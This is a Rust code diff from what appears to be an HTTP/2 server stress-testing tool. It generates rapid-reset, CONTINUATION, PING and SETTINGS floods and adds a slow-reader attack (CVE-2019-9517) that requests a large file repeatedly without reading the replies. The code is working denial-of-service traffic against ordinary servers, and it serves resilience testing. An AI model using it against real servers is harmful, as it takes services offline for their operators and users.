@@ -20,20 +20,23 @@ struct Kind {
     /// What is said of a number, which counts from 0 on each connection, and again and again until there are so many bytes.
     more: fn(u32, &mut Vec<u8>),
     at_once: usize,
+    /// Whether what comes is read.
+    reads: bool,
 }
 
-const KINDS: [Kind; 4] = [
+const fn kind(name: &'static str, more: fn(u32, &mut Vec<u8>), at_once: usize) -> Kind {
+    Kind { name, begun: |_| {}, more, at_once, reads: true }
+}
+
+const KINDS: [Kind; 5] = [
     // Requests that are given up at once (CVE-2023-44487).
-    Kind { name: "h2-resets", begun: |_| {}, more: reset_request, at_once: 1 },
+    kind("h2-resets", reset_request, 1),
     // Headers without end (CVE-2024-27316, CVE-2023-45288).
-    Kind { name: "h2-continuations", begun: |bytes| request(1, 0, bytes), more: continuation, at_once: 1000 },
-    Kind {
-        name: "h2-pings",
-        begun: |_| {},
-        more: |_, bytes| frame(PING, 0, 0, &[0; 8], bytes),
-        at_once: 1000,
-    },
-    Kind { name: "h2-settings", begun: |_| {}, more: settings, at_once: 1000 },
+    Kind { begun: |bytes| request(1, 0, SMALL, bytes), ..kind("h2-continuations", continuation, 1000) },
+    kind("h2-pings", ping, 1000),
+    kind("h2-settings", settings, 1000),
+    // Much that is asked for and not taken (CVE-2019-9517).
+    Kind { begun: large_requests, reads: false, ..kind("h2-slow-readers", ping, 1) },
 ];
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
@@ -41,13 +44,20 @@ const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 
+/// The path of the small file and of the large one (RFC 7541, section 6.2.2).
+const SMALL: &[u8] = b"\x04\x06/small";
+const BIG: &[u8] = b"\x04\x04/big";
+/// Requests that a connection of `h2-slow-readers` makes, as many as servers take.
+const REQUESTS: u32 = 100;
 /// Connections at a time.
 const CONNECTIONS: u32 = 8;
+const LARGEST_WINDOW: u32 = 0x7fff_ffff;
 
 pub(crate) fn names() -> impl Iterator<Item = &'static str> {
     KINDS.iter().map(|kind| kind.name)
@@ -61,14 +71,29 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], bytes: &mut Vec<u8>) 
     bytes.extend_from_slice(payload);
 }
 
-/// A request for the small file (RFC 7541: indexed fields, and literal ones that are not indexed).
-fn request(stream: u32, flags: u8, bytes: &mut Vec<u8>) {
-    frame(HEADERS, END_STREAM | flags, stream, b"\x82\x87\x04\x06/small\x01\x09localhost", bytes);
+/// A request for a file (RFC 7541: indexed fields, and literal ones that are not indexed).
+fn request(stream: u32, flags: u8, path: &[u8], bytes: &mut Vec<u8>) {
+    let fields = [b"\x82\x87", path, b"\x01\x09localhost"].concat();
+    frame(HEADERS, END_STREAM | flags, stream, &fields, bytes);
+}
+
+/// The large file as often as it may be asked for, with the largest windows.
+fn large_requests(bytes: &mut Vec<u8>) {
+    let window = LARGEST_WINDOW.to_be_bytes();
+    frame(SETTINGS, 0, 0, &[&[0, 4], &window[..]].concat(), bytes);
+    frame(WINDOW_UPDATE, 0, 0, &(LARGEST_WINDOW - 65_535).to_be_bytes(), bytes);
+    for number in 0..REQUESTS {
+        request(number * 2 + 1, END_HEADERS, BIG, bytes);
+    }
+}
+
+fn ping(_: u32, bytes: &mut Vec<u8>) {
+    frame(PING, 0, 0, &[0; 8], bytes);
 }
 
 fn reset_request(number: u32, bytes: &mut Vec<u8>) {
     let stream = number * 2 + 1;
-    request(stream, END_HEADERS, bytes);
+    request(stream, END_HEADERS, SMALL, bytes);
     frame(RST_STREAM, 0, stream, &CANCEL, bytes);
 }
 
@@ -133,6 +158,9 @@ async fn once(
 ) -> Result<(), Failure> {
     let socket = TcpSocket::new_v4()?;
     socket.bind(peer::address()?.into())?;
+    if !kind.reads {
+        socket.set_recv_buffer_size(4096)?;
+    }
     let connect = async {
         let stream = socket.connect(task.server).await?;
         TlsConnector::from(Arc::clone(tls))
@@ -142,7 +170,14 @@ async fn once(
     };
     let stream = tokio::time::timeout(Duration::from_secs(2), connect).await??;
     let (heard, mut stream) = tokio::io::split(stream);
-    let heard = tokio::task::spawn_local(forget(heard));
+    let reads = kind.reads;
+    let heard = tokio::task::spawn_local(async move {
+        if !reads {
+            // It stays open.
+            std::future::pending::<()>().await;
+        }
+        forget(heard).await;
+    });
     let mut bytes = PREFACE.to_vec();
     frame(SETTINGS, 0, 0, &[], &mut bytes);
     (kind.begun)(&mut bytes);
